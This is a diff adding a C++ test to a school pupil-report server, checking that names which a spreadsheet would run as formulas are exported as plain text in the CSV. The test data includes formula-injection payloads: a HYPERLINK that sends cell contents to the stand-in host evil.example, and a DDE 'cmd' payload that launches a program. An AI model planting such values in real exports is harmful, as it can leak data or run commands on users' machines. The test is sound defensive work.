@@ -1,6 +1,7 @@
 // Pupil report uploads through the real server: the verdict on every row, broken files that
 // change nothing, idempotent re-uploads, a fictitious number replaced by the real one, the
 // filtered list, corrections in place, the CSV export, and that only the school's own staff get in.
+#include <algorithm>
 #include <filesystem>
 #include <fstream>
 
@@ -212,6 +213,26 @@ TEST_F(PupilReportTest, RejectedRowsExportAsCsvForTheSchool) {
   const Answer both = Get(server_->port(), "/api/v1/schools/101002/pupils?status=rejected,accepted", staff_);
   EXPECT_EQ(both.json["pupils"].size(), 2u);
   EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils?status=rejected,nonsense", staff_).status, 400);
+}
+
+// Issue 32, row 8: names that a spreadsheet would run as formulas come back as text in the export.
+TEST_F(PupilReportTest, FormulasInNamesAreExportedAsText) {
+  const std::vector<std::string> names{R"(=HYPERLINK("http://evil.example/?x="&A1,"Klik"))", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"};
+  std::string report = kHeader;
+  for (const std::string& name : names) report += "123;" + name + ";101002;4800;9;9.B;2024-08-12\n";  // rejected rows: in the export
+  Upload(report);
+  const Answer csv = Get(server_->port(), "/api/v1/schools/101002/pupils.csv?status=rejected", staff_);
+  ASSERT_EQ(csv.status, 200) << csv.body;
+  for (const char* neutralised : {"'=HYPERLINK(", "'+cmd|", "'@SUM(A1:A9)", "'-2+3"}) {
+    EXPECT_NE(csv.body.find(neutralised), std::string::npos) << neutralised << " in " << csv.body;
+  }
+  for (const char* cell : {";=HYPERLINK", ";\"=HYPERLINK", ";+cmd", ";@SUM", ";-2+3"}) EXPECT_EQ(csv.body.find(cell), std::string::npos) << cell;
+  // The JSON list keeps the names as they were reported.
+  const Answer list = Get(server_->port(), "/api/v1/schools/101002/pupils?status=rejected", staff_);
+  ASSERT_EQ(list.json["pupils"].size(), names.size());
+  std::vector<std::string> listed;
+  for (const auto& pupil : list.json["pupils"]) listed.push_back(pupil["pupil"]["name"]);
+  EXPECT_NE(std::find(listed.begin(), listed.end(), names[0]), listed.end());
 }
 
 }  // namespace
